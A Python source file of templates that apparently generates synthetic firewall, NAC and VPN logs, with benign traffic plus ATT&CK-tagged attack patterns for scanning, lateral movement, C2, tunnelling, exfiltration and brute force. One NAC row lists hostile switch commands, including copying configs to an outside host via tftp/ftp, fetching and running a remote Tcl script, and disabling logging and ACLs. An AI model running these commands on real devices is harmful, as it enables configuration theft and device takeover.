# ruff: noqa: E501
"""Sessions that differ by where they go from and to: zones, ports, bytes up and down, how they end, who, which country.

A row of SESSIONS is `zones source target port transport end application sent received seconds country user`. Zones are `users>wan` and the like, country is
`home`, `-` or a code, user is `person`, `service`, `admin` or `-`; `!` keeps an application on a port that is not its own. NAC rows are `outcome ;; who ;; method ;; device ;; reason ;; more`, TUNNELS rows
`outcome ;; user ;; country ;; reason ;; system ;; machine ;; bytes up ;; bytes down`. edge.py writes them.
"""
from __future__ import annotations

from .phrases import phrased
from .table import table

SESSIONS = table(phrased(r"""
# edge browsing and clouds
users>wan «ip» «peer» 443 tcp «close|close|rst|timeout» «ssl|web-browsing|google-base|office365-base|ms-teams|slack-base|zoom-base|github-base|outlook-web-online|salesforce-base» @medium@ @large@ @while@ «home|US|IE|NL» person
users>wan «ip» «peer» 443 udp «close|timeout» «quic|youtube-base|google-base|facebook-base» @medium@ @large@ @while@ «home|US» person
users>wan «ip» «peer» «80|443» tcp close «web-browsing|ms-update|apple-update|ocsp|windows-defender-atp|crl» @small@ @medium@ @brief@ «home|US|IE» -
guest>wan «ip» «peer» «443|80|5228|993|4500|3478» «tcp|udp» close «ssl|web-browsing|instagram-base|whatsapp-base|netflix-base|ipsec-esp-udp|stun» @medium@ @large@ @while@ «home|US» -
users>wan «ip» «peer» «443|443|80» tcp deny «ssl|web-browsing|bittorrent|facebook-base|dropbox-base|gambling» 0 0 0 «home|US» person
users>wan «ip» «peer» «50000|50«num:100:999»|3478|3479|8801|19305» udp close «ms-teams-audio-video|zoom-meeting|stun|google-meet|rtp» @large@ @large@ @long@ «home|US|IE» person
# edge large transfers of a working day
users>wan «ip» «peer» 443 tcp close «onedrive-base|sharepoint-online|google-drive-web|box-base|wetransfer|icloud-base|youtube-uploading» «num:9000000:900000000» @medium@ @while@ «home|US|IE» person
servers>wan «ip» «peer» 443 tcp close «veeam-backup|aws-s3|azure-blob-storage|google-cloud-storage|rsync|ms-update» @huge@ @large@ @long@ «home|IE|US» service
users>servers «ip» «ip2» «445|443|2049|9000» tcp close «ms-ds-smbv3|ssl|nfs|minio» @huge@ @large@ @long@ home person
servers>wan «ip» «peer» «443|80» tcp close «yum|apt-get|docker-hub|windows-update|github-base|pypi|npm» @medium@ «num:9000000:900000000» @while@ «US|home|NL» -
servers>servers «ip» «ip2» «2500|10006|902|9392|873|3260|5432|1433|27017|9200» tcp close «veeam|vmware|rsync|iscsi|postgres|mssql-db|mongodb|elasticsearch» @huge@ @large@ @long@ - service
# edge services between zones
users>servers «ip» «ip2» «num:1025:49000» tcp «close|timeout|rst» «unknown-tcp|insufficient-data|ssl|sap|lotus-notes» @medium@ @medium@ @while@ home person
servers>servers «ip» «ip2» «num:1025:49000» «tcp|udp» «close|timeout» «unknown-tcp|unknown-udp|ssl|insufficient-data» @medium@ @medium@ @while@ - «service|-»
users>wan «ip» «peer» «num:3000:49000» «udp|tcp|udp» «close|timeout» «unknown-udp|unknown-tcp|steam|stun|insufficient-data» @medium@ @medium@ @while@ «home|US|NL» person
users>servers «ip» «ip2» «53|88|389|135|445|3268|464|636|49«num:152:999»» «tcp|tcp|udp» close «dns|kerberos|ldap|msrpc|ms-ds-smbv3|active-directory» @small@ @medium@ @brief@ home person
users>servers «ip» «ip2» «443|8443|80|8080|1433|3306|5432|1521» tcp «close|close|rst» «ssl|web-browsing|mssql-db|mysql|postgres|oracle|sap» @medium@ @large@ @while@ home person
dmz>servers «ip» «ip2» «1433|5432|3306|6379|9200|443|8443|5672» tcp close «mssql-db|postgres|mysql|redis|elasticsearch|ssl|amqp» @medium@ @medium@ @while@ - service
mgmt>servers «ip» «ip2» «22|3389|5985|5986|443|8006|623» tcp «close|timeout» «ssh|ms-rdp|winrm|ssl|vmware|ipmi» @large@ @large@ @long@ - admin
mgmt>dmz «ip» «ip2» «22|443|161» «tcp|udp» close «ssh|ssl|snmp» @medium@ @medium@ @while@ - admin
servers>users «ip» «ip2» «445|135|8530|10123|161|9100|5985|5650» tcp close «ms-ds-smbv3|msrpc|sccm|snmp|print|winrm|zabbix» @medium@ @medium@ @brief@ - service
users>printers «ip» «ip2» «9100|631|515|161» «tcp|udp» close «print|ipp|lpd|snmp» @large@ @small@ @brief@ home person
voip>servers «ip» «ip2» «5060|5061|10000|«num:16384:32767»» udp close «sip|rtp» @medium@ @medium@ @while@ - -
vpn>servers «ip» «ip2» «443|445|3389|53|389|22» «tcp|tcp|udp» close «ssl|ms-ds-smbv3|ms-rdp|dns|ldap|ssh» @medium@ @large@ @long@ home person
ot>ot «ip» «ip2» «502|102|44818|20000|4840» tcp close «modbus|siemens-s7|ethernet-ip|dnp3|opc-ua» @medium@ @medium@ @long@ - -
servers>wan «ip» «peer» «25|587|53|123|853» «tcp|udp» close «smtp|dns|ntp|dns-over-tls» @medium@ @small@ @brief@ «home|US» -
# edge remote hands by day
users>servers «ip» «ip2» «3389|22|5985|5986|3389|22» tcp «close|close|timeout|rst» «ms-rdp|ssh|winrm» @large@ @large@ @long@ home «admin|person»
vpn>servers «ip» «ip2» «3389|22|5985» tcp «close|timeout» «ms-rdp|ssh|winrm» @large@ @large@ @long@ «home|home|@near@» «admin|person»
users>wan «ip» «peer» «22|22|21|993|587|3389» tcp «close|close|timeout» «ssh|github-base|ftp|imap|smtp|ms-rdp» @medium@ @large@ @long@ «home|US|IE» «person|admin»
servers>servers «ip» «ip2» «22|445|3389|5985» tcp close «ssh|ms-ds-smbv3|ms-rdp|winrm|ansible» @medium@ @large@ @while@ - «service|admin»
# edge published services
wan>dmz «visitor» «ip2» «443|80|25|443» tcp «close|close|timeout|rst» «ssl|web-browsing|smtp|ms-exchange» @medium@ @large@ @while@ «home|home|@near@» -
wan>dmz «pub» «ip2» «443|80» tcp «timeout|rst|close» «incomplete|web-browsing|ssl» @small@ @small@ @brief@ @elsewhere@ -
wan>dmz «visitor» «ip2» «443|500|4500|1194|51820» «udp|tcp» close «ssl|ipsec-esp-udp|openvpn|wireguard|panos-global-protect» @large@ @large@ @long@ «home|home|@near@» person
# edge noise that was refused
wan>dmz «pub» «ip2» «22|23|445|3389|5060|8080|6379|1433|2222|5900|8291|«num:1024:65535»» «tcp|udp» «drop|deny» not-applicable «0|40|60» 0 0 «@elsewhere@|US» -
wan>wan «pub» «peer» «53|123|161|1900|389|11211» udp deny not-applicable «60|90» 0 0 «@elsewhere@|US» -
users>servers «ip» «ip2» «80|443|7680|8014|1688|5357|427|161» tcp «deny|rst» «not-applicable|incomplete» 0 0 0 home -
guest>servers «ip» «ip2» «53|80|443|5353|631|8009» «tcp|udp» deny «not-applicable|dns» 0 0 0 - -
users>wan «ip» «peer» «53|853|25|5938|1194|51413|6881|3478» «udp|tcp» deny «dns|dns-over-tls|smtp|teamviewer-base|openvpn|bittorrent|stun» 0 0 0 «US|home|@near@» person
servers>wan «ip» «peer» «80|443|123» tcp deny «web-browsing|ssl|ntp|ms-update» 0 0 0 «US|home» -
users>users «ip» «ip2» «5353|1900|137|5355|7680|17500|3702|57621» udp «deny|close» «mdns|ssdp|netbios-ns|llmnr|delivery-optimization|dropbox-lan-sync|spotify» @small@ 0 0 home -
# edge scanners and agents of our own
mgmt>servers «ip» «ip2» «22|443|445|3389|161|8443|5985|«num:1:10000»» tcp «rst|timeout|close» «incomplete|ssl|ssh|nessus|qualys» @small@ @small@ @brief@ - service
mgmt>users «ip» «ip2» «445|135|5985|22|161» tcp «rst|timeout|close» «incomplete|ms-ds-smbv3|msrpc|snmp» @small@ @small@ @brief@ - service
servers>servers «ip» «ip2» «10050|9100|5044|514|6514|8089|9997|4118|1514» tcp close «zabbix|prometheus|syslog|splunk|elastic-beats|wazuh» @medium@ @small@ @while@ - service
# T1046 edge sweeps between zones
users>servers «ip» «ip2» «22|23|445|3389|5985|1433|3306|5432|6379|9200|27017|5900|8080|623|111|2375|10250|«num:1:9999»» tcp «deny|deny|drop|timeout|rst» «incomplete|not-applicable|insufficient-data» «0|40|60|74» «0|0|40» 0 - «person|-»
users>users «ip» «ip2» «445|135|3389|22|5985|139|5900|80» tcp «deny|drop|timeout|rst» «incomplete|not-applicable» «0|44|60» 0 0 - «person|-»
dmz>servers «ip» «ip2» «22|445|3389|135|389|88|5985|«num:1:9999»» tcp «deny|deny|timeout|rst» «incomplete|not-applicable» «0|60» 0 0 - -
guest>«servers|mgmt|users» «ip» «ip2» «22|445|3389|161|8443|23|5900|«num:1:9999»» tcp «deny|drop» «not-applicable|incomplete» «0|60» 0 0 - -
«users|dmz|voip|printers»>«mgmt|ot» «ip» «ip2» «22|443|502|102|623|161|44818|3389» «tcp|tcp|udp» «deny|drop|timeout» «not-applicable|incomplete» «0|60» 0 0 - -
# T1021 edge moves sideways
users>users «ip» «ip2» «445|135|3389|5985|22|5986|5900|139» tcp «close|close|rst» «ms-ds-smbv2|ms-ds-smbv3|msrpc-base|ms-rdp|winrm|ssh|vnc-base» @large@ @medium@ @while@ - «person|admin|service»
dmz>«users|servers» «ip» «ip2» «445|3389|135|22|5985|389» tcp «close|rst|timeout» «ms-ds-smbv2|ms-rdp|msrpc-base|ssh|winrm|ldap» @medium@ @medium@ @while@ - «-|service»
«printers|voip|guest»>servers «ip» «ip2» «445|3389|389|22|88|1433» tcp «close|timeout|rst» «ms-ds-smbv2|ms-rdp|ldap|ssh|kerberos|mssql-db» @medium@ @medium@ @while@ - -
vpn>servers «ip» «ip2» «3389|22|5985|445|135» tcp close «ms-rdp|ssh|winrm|ms-ds-smbv2» @large@ @large@ @long@ @elsewhere@ «service|admin»
users>mgmt «ip» «ip2» «443|22|902|8006|623|3389» tcp «close|timeout» «ssl|ssh|vmware|ipmi|ms-rdp» @large@ @large@ @long@ - person
# T1190 edge doors open to strangers
wan>«servers|users|mgmt» «pub» «ip2» «3389|22|445|5985|1433|5900|23|8443|10250|2375|6379|3306» tcp «close|close|rst» «ms-rdp|ssh|ms-ds-smb|winrm|mssql-db|vnc-base|telnet|ssl|redis|mysql|unknown-tcp» @medium@ @large@ @while@ @elsewhere@ -
wan>dmz «pub» «ip2» «22|3389|445|8080|8443|7001|4444|5985» tcp «close|close|rst» «ssh|ms-rdp|ms-ds-smb|web-browsing|unknown-tcp» @medium@ @large@ @while@ @elsewhere@ -
wan>dmz «pub» «ip2» «443|80|8443» tcp close «unknown-tcp|insufficient-data|!ssh|!ms-rdp» @large@ @large@ @long@ @elsewhere@ -
# T1571 edge calls home
users>wan «ip» «pub» «4444|8443|8080|1337|9001|5555|8888|2222|31337|50050|6666|7443|1080|«num:20000:65000»» tcp «close|close|timeout|rst» «unknown-tcp|ssl|insufficient-data|web-browsing» @small@ @small@ @brief@ @elsewhere@ «person|-»
servers>wan «ip» «pub» «443|80|8443|4444|8080|«num:1025:65000»» tcp «close|timeout|rst» «unknown-tcp|ssl|insufficient-data|web-browsing» @small@ @small@ «@brief@|@long@» @elsewhere@ «-|service»
«users|servers|dmz»>wan «ip» «pub» «443|443|80» tcp «close|timeout» «unknown-tcp|insufficient-data» «num:200:900» «num:100:700» @brief@ «@elsewhere@|US|NL» -
«dmz|servers»>wan «ip» «pub» «22|4444|1389|389|3389|9001|53|21|«num:1025:65000»» tcp «close|deny|timeout» «ssh|unknown-tcp|ldap|tor|incomplete|ftp» @small@ @medium@ «@brief@|@long@» @elsewhere@ -
«printers|voip|ot|mgmt»>wan «ip» «pub» «443|80|22|23|4444|8080|53» tcp «close|timeout|deny» «unknown-tcp|ssl|ssh|telnet|web-browsing» @small@ @small@ «@brief@|@long@» @elsewhere@ -
users>wan «ip» «pub» «9001|9030|9050|9150|443» tcp «close|deny|rst» «tor|ultrasurf|psiphon|hola-unblocker|ngrok|cloudflare-warp-tunnel» @medium@ @large@ @long@ @elsewhere@ «person|-»
users>wan «ip» «pub» «6667|6697|3333|5555|7777|14444|45700» tcp «close|close|deny» «irc-base|stratum|bitcoin|monero-mining|unknown-tcp» @medium@ @medium@ @long@ @elsewhere@ -
# T1071.004 edge names that carry data
«users|servers|dmz»>wan «ip» «pub» 53 «udp|udp|tcp» «close|deny» «dns|dns-tunneling|tcp-over-dns|iodine|unknown-udp» «num:90000:90000000» «num:90000:9000000» @long@ @elsewhere@ -
«users|servers»>wan «ip» «pub» 0 icmp close «ping|ping-tunnel|icmp» «num:90000:9000000» «num:90000:9000000» @long@ @elsewhere@ -
# T1048 edge data carried out
users>wan «ip» «pub» «443|22|21|80|8443|873|2222» tcp close «unknown-tcp|!ssh|ftp|mega|rclone|anonfile|webdav|ssl|filezilla|pcloud» @huge@ @medium@ @long@ «@elsewhere@|US» «person|-»
servers>wan «ip» «pub» «443|22|21|445|8443|990|«num:1025:65000»» tcp close «unknown-tcp|ssh|ftp|mega|rclone|ssl|ms-ds-smbv2|webdav» @huge@ @medium@ @long@ @elsewhere@ -
«mgmt|dmz|ot»>wan «ip» «pub» «443|22|21|80» tcp close «ssl|ssh|ftp|unknown-tcp|web-browsing» @huge@ @medium@ @long@ @elsewhere@ -
# T1187 edge hashes and mail let out
«users|servers»>wan «ip» «pub» «445|139|389|636|88|135» «tcp|tcp|udp» «close|rst|timeout|deny» «ms-ds-smb|netbios-ss|ldap|kerberos|msrpc|incomplete» @small@ @small@ @brief@ «@elsewhere@|US» «person|-»
users>wan «ip» «pub» «25|465|2525|587» tcp «close|deny|rst» «smtp|smtp-base|unknown-tcp» @medium@ @small@ @brief@ @elsewhere@ -
# T1498 edge floods
«users|servers|voip»>wan «ip» «pub» «80|443|53|123|1900|«num:1024:65535»» «udp|tcp» «timeout|drop|close» «unknown-udp|incomplete|insufficient-data» @huge@ 0 @while@ @elsewhere@ -
# T1133 edge remote control let in
«users|servers»>wan «ip» «pub» «443|5938|7070|6568|8040|5650|21115|4899» «tcp|udp» close «anydesk|screenconnect|rustdesk|ammyy-admin|radmin|teamviewer-remote-control|splashtop-remote|atera|ngrok» @large@ @large@ @long@ @elsewhere@ -
"""))

NAC = table(phrased(r"""
# nac logins by day
passed ;; person ;; dot1x PEAP (EAP-MSCHAPv2) ;; «Windows11-Workstation|Windows10-Workstation|Microsoft-Workstation» ;; - ;; Corp-Users «Compliant|Compliant|Pending»
passed ;; machine ;; dot1x EAP-TLS ;; «Windows11-Workstation|Apple-MacBook|Chromebook» ;; - ;; Domain-Computers Compliant
passed ;; mac ;; mab Lookup ;; «Cisco-IP-Phone-8845|HP-LaserJet|Axis-Camera|Polycom-Device|APC-UPS|Zebra-Printer|Xerox-Printer» ;; - ;; «Voice|Printers|IoT|Cameras» NotApplicable
passed ;; guest ;; webauth PAP_ASCII ;; «Apple-iPhone|Android-Samsung|Windows11-Workstation|iPad» ;; - ;; Guest-Internet NotApplicable
passed ;; person ;; vpn «SAML|PAP_ASCII|EAP-TTLS» ;; «Windows11-Workstation|OS_X-Workstation|Apple-iPhone» ;; - ;; VPN-Employees Compliant
failed ;; person ;; dot1x PEAP (EAP-MSCHAPv2) ;; «Windows10-Workstation|Apple-iPhone|Android» ;; «24408 User authentication against Active Directory failed since user has entered the wrong password|24423 ISE has not been able to confirm previous successful machine authentication|12321 PEAP failed SSL/TLS handshake because the client rejected the ISE local-certificate|5411 Supplicant stopped responding to ISE during EAP session» ;; Default Pending
failed ;; machine ;; dot1x EAP-TLS ;; Windows10-Workstation ;; «12514 EAP-TLS failed SSL/TLS handshake because of an expired client certificate|12516 EAP-TLS failed because the certificate is revoked|24352 Identity lookup failed because machine account is disabled» ;; Default Pending
failed ;; mac ;; mab Lookup ;; «Unknown|Windows10-Workstation|Android» ;; 22056 Subject not found in the applicable identity store(s) ;; Default NotApplicable
command ;; admin ;; TACACS «show running-config|show ip interface brief|configure terminal|write memory|show mac address-table|interface GigabitEthernet1/0/«num:1:48»|description «word»|switchport access vlan «num:10:400»|no shutdown|show logging|copy running-config startup-config|ntp server «ip2»|logging host «ip2»» ;; Network-Device ;; - ;; Network-Admins privilege 15
posture ;; person ;; agent «Secure Client|AnyConnect» ;; Windows11-Workstation ;; - ;; «Compliant|NonCompliant» policy «AV_Definition|Disk_Encryption|Patch_Level»
profiled ;; mac ;; probe «DHCP|RADIUS|SNMP|HTTP» ;; «Cisco-IP-Phone|HP-LaserJet|Android|Apple-iPad|VMWare-Device» ;; - ;; profile changed from Unknown
# T1110.003 nac guessing
failed ;; guessed ;; «vpn PAP_ASCII|dot1x PEAP (EAP-MSCHAPv2)|webauth PAP_ASCII» ;; «Unknown|Linux-Workstation» ;; «22056 Subject not found in the applicable identity store(s)|24408 User authentication against Active Directory failed since user has entered the wrong password|24415 User authentication against Active Directory failed since user's account is locked out|5440 Endpoint abandoned EAP session and started new» ;; Default Pending
failed ;; «person|guessed» ;; «vpn|dot1x» PEAP (EAP-MSCHAPv2) ;; Unknown ;; «5434 Endpoint conducted several failed authentications of the same scenario|5449 Endpoint failed authentication of the same scenario several times and was rejected|24415 User authentication against Active Directory failed since user's account is locked out» ;; Rejected «num:10:400» times Pending
failed ;; guessed ;; TACACS login ASCII ;; Unknown ;; «22056 Subject not found in the applicable identity store(s)|22040 Wrong password or invalid shared secret|13036 Selected Shell Profile is DenyAccess» ;; Default privilege 15
# T1200 nac devices that pretend
passed ;; mac ;; mab Lookup ;; «Linux-Workstation|Kali-Linux|Windows10-Workstation|RaspberryPi-Device|Hak5-Device» ;; - ;; «Voice|Printers|IoT|Cameras» endpoint profile conflict NotApplicable
profiled ;; mac ;; probe «DHCP|HTTP|NMAP» ;; «Linux-Workstation|RaspberryPi-Device|Kali-Linux|TP-LINK-Device» ;; - ;; anomalous behaviour profile changed from «Cisco-IP-Phone|HP-LaserJet|Axis-Camera»
passed ;; person ;; dot1x PEAP (EAP-MSCHAPv2) ;; «Kali-Linux|Linux-Workstation|RaspberryPi-Device» ;; - ;; Corp-Users NonCompliant
# T1078 nac accounts in wrong hands
passed ;; service ;; vpn «PAP_ASCII|SAML» ;; «Linux-Workstation|Unknown|Windows10-Workstation» ;; - ;; VPN-Admins NotApplicable
passed ;; guest ;; dot1x PEAP (EAP-MSCHAPv2) ;; «Linux-Workstation|Unknown» ;; - ;; «Corp-Users|VPN-Admins» NonCompliant
# T1562 nac devices opened by command
command ;; «admin|service|guessed» ;; TACACS «no aaa new-model|username @junk@ privilege 15 secret 0 @junk@|no logging host «ip2»|monitor session 1 source interface Gi1/0/1 - 48|copy running-config tftp://«pub»/c|copy startup-config ftp://«pub»/|no access-list «num:10:199»|ip access-list extended «num:100:199» permit ip any any|no ip access-group «num:100:199» in|clear logging|reload in 1|erase startup-config|guestshell enable|tclsh tftp://«pub»/t.tcl|interface Tunnel«num:1:9» tunnel destination «pub»|snmp-server community public RW» ;; Network-Device ;; - ;; Network-Admins privilege 15
"""))

TUNNELS = table(phrased(r"""
# tunnels of people at work
success ;; «user» ;; home ;; - ;; «Microsoft Windows 11 Pro|Microsoft Windows 10 Enterprise|Apple Mac OS X 14.«num:0:6»|Apple iOS 17.«num:0:6»|Android 14» ;; «workstation» ;; 0 ;; 0
success ;; «user» ;; @near@ ;; - ;; «Microsoft Windows 11 Pro|Apple Mac OS X 14.«num:0:6»|Apple iOS 17.«num:0:6»» ;; «workstation» ;; 0 ;; 0
closed ;; «user» ;; «home|home|@near@» ;; «user logout|client logout|idle timeout|session expired|User Requested|Max time exceeded|Lost Service|Connection Preempted» ;; «Microsoft Windows 11 Pro|Apple Mac OS X 14.1» ;; «workstation» ;; @large@ ;; @large@
failed ;; «user» ;; «home|home|@near@» ;; «wrong password|Authentication failed: Invalid username or password|password expired|certificate expired|OTP code wrong|SAML login cancelled|Login denied, two factor timeout» ;; «Microsoft Windows 11 Pro|Apple Mac OS X 14.1|Android 14» ;; «workstation» ;; 0 ;; 0
failed ;; «user» ;; home ;; «HIP check failed: disk not encrypted|client version not supported|not in allow list|host not compliant» ;; Microsoft Windows 10 Pro ;; «workstation» ;; 0 ;; 0
success ;; «svc» ;; home ;; - ;; «Linux Ubuntu 22.04|Microsoft Windows Server 2022» ;; «server» ;; 0 ;; 0
# T1110.003 tunnels guessed at
failed ;; @guessed@ ;; «@elsewhere@|US|NL|DE» ;; «unknown user|Authentication failed: Invalid username or password|user not found in allow list|account locked out|sslvpn_login_unknown_user|User was not found|too many attempts» ;; «Browser|Linux|unknown|Microsoft Windows 7» ;; «unknown|N/A|localhost|DESKTOP-«HEX:7»» ;; 0 ;; 0
failed ;; «user» ;; «@elsewhere@|US|NL» ;; «account locked out|blocked after «num:10:900» failures|password spray signature|wrong password, «num:10:400» failures from this address» ;; «Browser|Linux|unknown» ;; «unknown|N/A|localhost» ;; 0 ;; 0
# T1133 tunnels of strangers
success ;; «user» ;; @elsewhere@ ;; - ;; «Linux Kali|Linux Debian|unknown|Microsoft Windows 7|Microsoft Windows Server 2012 R2|Browser» ;; «kali|DESKTOP-«HEX:7»|WIN-«HEX:10»|localhost|parrot|vps-«num:100:999»» ;; 0 ;; 0
success ;; ««svc»|administrator|test|backup|vpn|guest|scanner|«admin»» ;; «@elsewhere@|US|NL» ;; - ;; «Linux Kali|Linux|unknown|Browser|Microsoft Windows Server 2012 R2|openconnect» ;; «kali|DESKTOP-«HEX:7»|WIN-«HEX:10»|unknown|localhost» ;; 0 ;; 0
closed ;; ««user»|«svc»|test|backup» ;; @elsewhere@ ;; «user logout|User Requested|Lost Service|connection preempted by login from another country» ;; «Linux|unknown|Microsoft Windows 7» ;; «kali|DESKTOP-«HEX:7»|WIN-«HEX:10»|unknown» ;; @large@ ;; @huge@
"""))
